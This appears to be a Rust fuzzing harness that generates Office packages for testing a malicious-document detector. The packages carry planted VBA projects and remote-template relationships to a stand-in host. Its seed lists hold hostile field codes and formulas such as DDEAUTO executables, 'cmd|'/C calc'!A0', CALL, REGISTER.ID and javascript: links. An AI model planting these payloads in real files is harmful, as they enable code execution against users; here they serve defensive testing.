//! Frames of Office files.

use std::sync::OnceLock;

use super::{File, KILL, LONGEST, OFFICE, generated};
use crate::{
    Marks,
    compound::Compound,
    encryption,
    markers::{holds, members},
    office::{
        archive::{Archive, Member, deflate},
        docx,
        package::{Package, escape},
        xlsx,
    },
};

/// What the parts of a package may have together.
const MOST: usize = 256 << 10;

/// A package whose parts are packed already, so that a run packs one part anew and no more.
struct Base {
    extension: String,
    archive: Archive,
    /// The members that are markup, and may be replaced.
    markup: Vec<usize>,
}

impl Base {
    /// The package of `file` with a macro project beside its main part.
    fn new(file: &File) -> Option<Self> {
        let (_, extension) = file.name.rsplit_once('.')?;
        if !OFFICE.contains(&extension) {
            return None;
        }
        let mut parts = members(&file.bytes);
        // Bombs are slow by design, and a part of one shows no more than the same part elsewhere.
        if parts.iter().map(|(_, body)| body.len()).sum::<usize>() > MOST {
            return None;
        }
        let (folder, main) = [
            ("word/", "word/_rels/document.xml.rels"),
            ("xl/", "xl/_rels/workbook.xml.rels"),
            ("ppt/", "ppt/_rels/presentation.xml.rels"),
        ]
        .into_iter()
        .find(|(_, main)| parts.iter().any(|(name, _)| name == main))?;
        for (name, body) in &mut parts {
            if name == main {
                let relationship = format!(
                    "<Relationship Id=\"rIdFuzz\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"fuzz.bin\"/>\
                     <Relationship Id=\"rIdFuzz2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://{KILL}.example.invalid/\" TargetMode=\"External\"/></Relationships>"
                );
                *body = replaced(body, "</Relationships>", &relationship);
            }
            if name == "[Content_Types].xml" {
                let project = format!(
                    "<Override PartName=\"/{folder}fuzz.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>"
                );
                *body = replaced(body, "</Types>", &project);
            }
        }
        parts.push((format!("{folder}fuzz.bin"), crate::compound::vba_project(KILL)));
        let markup = (0..parts.len()).filter(|index| parts[*index].1.starts_with(b"<")).collect();
        let archive = Archive {
            members: parts.iter().map(|(name, body)| packed(name, body)).collect(),
            ..Archive::default()
        };
        Some(Self { extension: extension.to_owned(), archive, markup })
    }

    fn with(&self, member: usize, body: &[u8]) -> File {
        let mut archive = self.archive.clone();
        if let Some(member) = archive.members.get_mut(member) {
            member.deflated = Some((body.to_vec(), crc32fast::hash(body), body.len() as u32));
            member.method = Some(0);
        }
        File::new(&format!("a.{}", self.extension), archive.bytes())
    }
}

fn packed(name: &str, body: &[u8]) -> Member {
    let deflated = Some((deflate(body), crc32fast::hash(body), body.len() as u32));
    Member { name: name.to_owned(), body: body.to_vec(), deflated, ..Member::default() }
}

fn replaced(body: &[u8], from: &str, to: &str) -> Vec<u8> {
    String::from_utf8_lossy(body).replacen(from, to, 1).into_bytes()
}

/// Every planted and every benign package.
fn bases() -> &'static [Base] {
    static BASES: OnceLock<Vec<Base>> = OnceLock::new();
    BASES.get_or_init(|| generated().iter().filter_map(Base::new).collect())
}

/// Two bytes choose the package, one the part that the rest is instead.
pub fn part(data: &[u8]) -> Option<File> {
    let (choice, body) = data.split_at_checked(3)?;
    let [low, high, member] = *choice else { return None };
    let base = &bases()[usize::from(u16::from_le_bytes([low, high])) % bases().len()];
    let member = base.markup.get(usize::from(member) % base.markup.len().max(1))?;
    Some(base.with(*member, body))
}

/// Every part of every package that differs from all before it.
pub fn part_seeds() -> Vec<Vec<u8>> {
    let mut seen = std::collections::BTreeSet::new();
    let mut seeds = Vec::new();
    for (index, base) in bases().iter().enumerate() {
        for (number, member) in base.markup.iter().enumerate() {
            let body = &base.archive.members[*member].body;
            // What a base plants stays its own.
            if body.len() <= LONGEST && !holds(body, KILL) && seen.insert(body) {
                let index = (index as u16).to_le_bytes();
                seeds.push([&index[..], &[number as u8], body].concat());
            }
        }
    }
    seeds
}

/// The bytes as characters that may stand in markup.
fn text(data: &[u8]) -> String {
    let lawful = |letter: &char| {
        !letter.is_control() && !matches!(*letter, '\u{fffe}' | '\u{ffff}') || matches!(letter, '\t' | '\n')
    };
    String::from_utf8_lossy(data).chars().filter(lawful).collect::<String>().replace("{{", "{ {")
}

const DOCUMENT: &str = "word/document.xml";
const SHEET: &str = "xl/worksheets/sheet1.xml";

fn hostile(package: Package, main: &str) -> Package {
    package.external(main, "rIdFuzz2", "attachedTemplate", &format!("https://{KILL}.example.invalid/"))
}

fn marks() -> Marks {
    Marks::new("fuzz")
}

/// The first byte says whether the rest is a simple field, or how many runs a complex one stands in.
pub fn field(data: &[u8]) -> Option<File> {
    let (runs, instruction) = data.split_first()?;
    let instruction = text(instruction);
    let body = match *runs % 8 {
        0 => format!(
            "<w:p><w:fldSimple w:instr=\"{}\"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>",
            escape(&instruction)
        ),
        runs => {
            let letters: Vec<char> = instruction.chars().collect();
            let pieces: Vec<String> = letters
                .chunks(letters.len().div_ceil(usize::from(runs)).max(1))
                .map(|piece| piece.iter().collect())
                .collect();
            docx::field(&pieces.iter().map(String::as_str).collect::<Vec<_>>(), "x")
        }
    };
    Some(File::new("a.docx", hostile(docx::docx(&marks()), DOCUMENT).fill(DOCUMENT, "body", &body).zip()))
}

pub fn field_seeds() -> Vec<Vec<u8>> {
    let instructions = [
        " PAGE ",
        " DATE \\@ \"ggge年M月d日\" ",
        " HYPERLINK \"https://example.invalid/\" \\o \"tip\" ",
        " DDEAUTO c:\\\\windows\\\\a.exe \"/k x\" ",
        " INCLUDEPICTURE \"https://example.invalid/a.png\" \\d ",
        " INCLUDETEXT \"\\\\\\\\host\\\\a.docx\" ",
        " QUOTE 68 68 69 ",
        " = SUM(ABOVE) \\# \"#,##0\" ",
        " IF { PAGE } = 1 \"a\" \"b\" ",
        " REF _Ref1 \\h ",
        " TOC \\o \"1-3\" \\h \\z \\u ",
        " MERGEFIELD 氏名 ",
        " EQ \\* jc2 \\* \"Font:ＭＳ 明朝\" \\* hps10 \\o\\ad(\\s\\up 9(ふりがな),漢字) ",
        " MACROBUTTON x y ",
        " ADVANCE \\d 4 ",
        " FORMCHECKBOX ",
        " SEQ 図 \\* ARABIC ",
        " DDE excel a b ",
        " LINK Excel.Sheet.12 \"a\" b \\a ",
    ];
    let runs = |index: usize| (index % 4) as u8;
    let seed = |(index, text): (usize, &&str)| [&[runs(index)], text.as_bytes()].concat();
    instructions.iter().enumerate().map(seed).collect()
}

/// A formula of a cell; the first byte says of which kind.
pub fn formula(data: &[u8]) -> Option<File> {
    let (kind, formula) = data.split_first()?;
    let formula = escape(&text(formula));
    let package = xlsx::xlsx(&marks());
    let cell = |attributes: &str| {
        format!("<row r=\"2\"><c r=\"A2\" t=\"str\"><f{attributes}>{formula}</f><v>x</v></c></row>")
    };
    let package = match kind % 6 {
        0 => package.fill(SHEET, "rows", &cell("")),
        1 => package.fill(SHEET, "rows", &cell(" t=\"array\" ref=\"A2\"")),
        2 => package.fill(SHEET, "rows", &cell(" t=\"shared\" ref=\"A2:A3\" si=\"0\"")),
        3 => package.fill("xl/workbook.xml", "names", &format!("<definedName name=\"a\">{formula}</definedName>")),
        4 => package.fill(
            SHEET,
            "after",
            &format!("<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\"><formula>{formula}</formula></cfRule></conditionalFormatting>"),
        ),
        _ => package.fill(
            SHEET,
            "after",
            &format!("<dataValidations count=\"1\"><dataValidation type=\"list\" sqref=\"A1\"><formula1>{formula}</formula1></dataValidation></dataValidations>"),
        ),
    };
    Some(File::new("a.xlsx", hostile(package, "xl/workbook.xml").zip()))
}

pub fn formula_seeds() -> Vec<Vec<u8>> {
    let formulas = [
        "SUM(A1:B2)*1.5",
        "IF(A1=\"あ\",TODAY(),\"x\"\"y\")",
        "WEBSERVICE(\"https://example.invalid/\")",
        "cmd|'/C calc'!A0",
        "[1]Sheet1!A1",
        "'[a.xlsx]Sheet 1'!$A$1",
        "_xlfn.XLOOKUP(1,A:A,B:B)",
        "HYPERLINK(\"https://example.invalid/\",\"a\")",
        "CALL(\"a\",\"b\",\"J\")",
        "{1,2;3,4}",
        "表1[[#This Row],[金額]]",
        "_xlfn.LET(_xlpm.x,1,_xlpm.x+1)",
        "INDIRECT(\"A\"&1)",
        "PHONETIC(A1)",
        "#REF!+1%",
        "A1#",
        "@A1:A3",
        "_xlfn.LAMBDA(_xlpm.a,_xlpm.a*2)(3)",
        "REGISTER.ID(\"a\",\"b\")",
        "-(1E+5)^2&\"\"",
        "Sheet1:Sheet2!A1",
    ];
    (0..formulas.len() * 2)
        .map(|index| [&[(index % 6) as u8], formulas[index % formulas.len()].as_bytes()].concat())
        .collect()
}

/// The target of an external hyperlink.
pub fn link(data: &[u8]) -> Option<File> {
    let body = "<w:p><w:hyperlink r:id=\"rIdLink\"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>";
    let package = docx::docx(&marks())
        .external(DOCUMENT, "rIdLink", "hyperlink", &text(data))
        .fill(DOCUMENT, "body", body);
    Some(File::new("a.docx", hostile(package, DOCUMENT).zip()))
}

pub fn link_seeds() -> Vec<Vec<u8>> {
    [
        "https://example.invalid/a?b=c#d",
        "http://user:pass@例え.invalid:80/",
        "mailto:a@example.invalid?subject=%E3%81%82&body=x",
        "javascript:alert(1)",
        "file:///c:/a.exe",
        "\\\\host\\share\\a",
        "ms-word:ofe|u|https://example.invalid/",
        "data:text/html,x",
        " https://example.invalid/",
        "HTTP:\\\\example.invalid",
        "https://[::1]/",
        "//example.invalid/a",
        "../a.docx",
        "#あ",
        "https://xn--r8jz45g.invalid/\u{202e}a",
        "mailto:\"a b\"@example.invalid,c@example.invalid?cc=d@example.invalid",
    ]
    .map(|text| text.as_bytes().to_vec())
    .to_vec()
}

/// The stream `EncryptionInfo` of an encrypted document.
pub fn encryption(data: &[u8]) -> Option<File> {
    let sealed = [&4_096_u64.to_le_bytes()[..], &[0x5a; 4_096]].concat();
    let file = Compound::new().stream("EncryptionInfo", data).stream("EncryptedPackage", sealed);
    Some(File::new("a.docx", file.bytes()))
}

pub fn encryption_seeds() -> Vec<Vec<u8>> {
    let agile = encryption::agile_information(&[0; 16], "VelvetSweatshop", 10);
    let standard = encryption::encrypted(b"PK", "VelvetSweatshop");
    // What stands in the compound file of the other kind begins with its version.
    let at = standard.windows(8).position(|window| window.starts_with(&[4, 0, 2, 0, 0x24, 0, 0, 0]));
    let standard =
        at.and_then(|at| standard.get(at..at + 256)).unwrap_or(&[4, 0, 2, 0, 0x24, 0, 0, 0]).to_vec();
    vec![agile, standard, vec![3, 0, 2, 0], vec![4, 0, 4, 0, 0x40, 0, 0, 0]]
}
